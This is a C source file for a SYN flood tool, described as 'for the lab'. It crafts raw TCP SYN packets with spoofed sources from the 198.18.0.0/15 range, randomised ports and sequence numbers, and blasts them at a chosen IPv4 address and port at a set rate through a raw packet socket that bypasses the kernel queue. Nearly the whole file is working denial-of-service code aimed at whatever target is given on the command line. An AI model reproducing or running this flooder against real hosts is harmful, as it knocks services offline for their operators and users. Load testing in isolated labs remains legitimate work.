/*
 * A SYN flood for the lab: syn-flood INTERFACE MAC ADDRESS PORT PER-SECOND SECONDS
 *
 * Sends TCP SYNs from random addresses of 198.18.0.0/15 (RFC 2544) and random ports to one IPv4 address, each
 * with the options that Linux sends, past the kernel's stack and queue. Every millisecond those go out that are
 * due by then, so that a flood that was held up catches up. Says at the end how many were sent in how long.
 * Whoever starts it drops the answers.
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH       64u
#define STEP_NS     1000000u
#define SOURCE_NET  0xc6120000u /* 198.18.0.0 */
#define SOURCE_MASK 0x0001ffffu
#define OPTIONS     20u

struct syn {
	struct ether_header eth;
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[OPTIONS];
} __attribute__((packed));

static uint64_t random_state;

static int open_socket(const char *interface);
static void make_template(struct syn *syn, const char *mac, const char *address, uint16_t port);
static void vary(struct syn *syn);
static uint64_t
flood(int fd, const struct syn *template, uint64_t per_second, uint64_t seconds, uint64_t *took_ns);

static void
die(const char *what)
{
	perror(what);
	exit(1);
}

static uint64_t
now_ns(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000000000u + (uint64_t)t.tv_nsec;
}

/* xorshift64 */
static uint64_t
next_random(void)
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	random_state ^= random_state << 17;
	return random_state;
}

int
main(int argc, char **argv)
{
	struct syn template;
	uint64_t sent, took_ns;

	if (argc != 7) {
		fprintf(stderr, "usage: syn-flood INTERFACE MAC ADDRESS PORT PER-SECOND SECONDS\n");
		return 2;
	}
	random_state = now_ns() | 1;
	make_template(&template, argv[2], argv[3], (uint16_t)atoi(argv[4]));
	sent = flood(open_socket(argv[1]), &template, strtoull(argv[5], NULL, 10),
		     strtoull(argv[6], NULL, 10), &took_ns);
	printf("%llu SYNs in %.3f s\n", (unsigned long long)sent, (double)took_ns / 1e9);
	return 0;
}

static int
open_socket(const char *interface)
{
	struct sockaddr_ll where = { .sll_family = AF_PACKET };
	int fd = socket(AF_PACKET, SOCK_RAW, 0), one = 1; /* protocol 0: receives nothing */

	if (fd < 0)
		die("socket");
	where.sll_ifindex = (int)if_nametoindex(interface);
	if (!where.sll_ifindex)
		die(interface);
	if (bind(fd, (struct sockaddr *)&where, sizeof where))
		die("bind");
	if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one))
		die("PACKET_QDISC_BYPASS");
	return fd;
}

static void
make_template(struct syn *syn, const char *mac, const char *address, uint16_t port)
{
	unsigned m[6];

	*syn = (struct syn){
		.eth = { .ether_shost = { 2, 0, 0, 0, 0, 2 }, .ether_type = htons(ETHERTYPE_IP) },
		.ip = { .version = 4,
			.ihl = 5,
			.ttl = 64,
			.protocol = IPPROTO_TCP,
			.tot_len = htons(sizeof syn->ip + sizeof syn->tcp + sizeof syn->options) },
		.tcp = { .dest = htons(port),
			 .syn = 1,
			 .doff = (sizeof syn->tcp + OPTIONS) / 4,
			 .window = htons(64240) },
		/* MSS 1460, SACK permitted, timestamps, window scale 7 */
		.options = { 2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7 },
	};
	if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6 ||
	    inet_pton(AF_INET, address, &syn->ip.daddr) != 1) {
		fprintf(stderr, "syn-flood: bad MAC or IPv4 address\n");
		exit(2);
	}
	for (unsigned i = 0; i < 6; i++)
		syn->eth.ether_dhost[i] = (uint8_t)m[i];
}

static uint32_t
sum(const void *data, size_t len, uint32_t total)
{
	const uint8_t *at = data;

	for (size_t i = 0; i < len; i += 2)
		total += (uint32_t)at[i] << 8 | at[i + 1];
	return total;
}

static uint16_t
fold(uint32_t total)
{
	while (total >> 16)
		total = (total & 0xffff) + (total >> 16);
	return htons((uint16_t)~total);
}

/* Another source, port, sequence number and timestamp; then the checksums. */
static void
vary(struct syn *syn)
{
	uint64_t random = next_random();
	uint32_t ts = (uint32_t)next_random();

	syn->ip.saddr = htonl(SOURCE_NET | ((uint32_t)random & SOURCE_MASK));
	syn->tcp.source = htons((uint16_t)(1024 + (random >> 20) % 64000));
	syn->tcp.seq = (uint32_t)(random >> 32);
	memcpy(syn->options + 8, &ts, sizeof ts);
	syn->ip.check = 0;
	syn->ip.check = fold(sum(&syn->ip, sizeof syn->ip, 0));
	syn->tcp.check = 0;
	syn->tcp.check = fold(sum(&syn->tcp, sizeof syn->tcp + OPTIONS,
				  sum(&syn->ip.saddr, 8, IPPROTO_TCP + sizeof syn->tcp + OPTIONS)));
}

static uint64_t
flood(int fd, const struct syn *template, uint64_t per_second, uint64_t seconds, uint64_t *took_ns)
{
	static struct syn syn[BATCH];
	static struct iovec iov[BATCH];
	static struct mmsghdr message[BATCH];
	uint64_t start = now_ns(), end = start + seconds * 1000000000u, now, sent = 0;

	for (unsigned i = 0; i < BATCH; i++) {
		syn[i] = *template;
		iov[i] = (struct iovec){ &syn[i], sizeof syn[i] };
		message[i].msg_hdr = (struct msghdr){ .msg_iov = &iov[i], .msg_iovlen = 1 };
	}
	while ((now = now_ns()) < end) {
		uint64_t due = (now - start) * per_second / 1000000000u;
		unsigned n = due - sent < BATCH ? (unsigned)(due - sent) : BATCH;
		int done;

		if (n == 0) {
			nanosleep(&(struct timespec){ .tv_nsec = STEP_NS }, NULL);
			continue;
		}
		for (unsigned i = 0; i < n; i++)
			vary(&syn[i]);
		done = sendmmsg(fd, message, n, 0);
		if (done > 0)
			sent += (unsigned)done;
	}
	*took_ns = now - start;
	return sent;
}
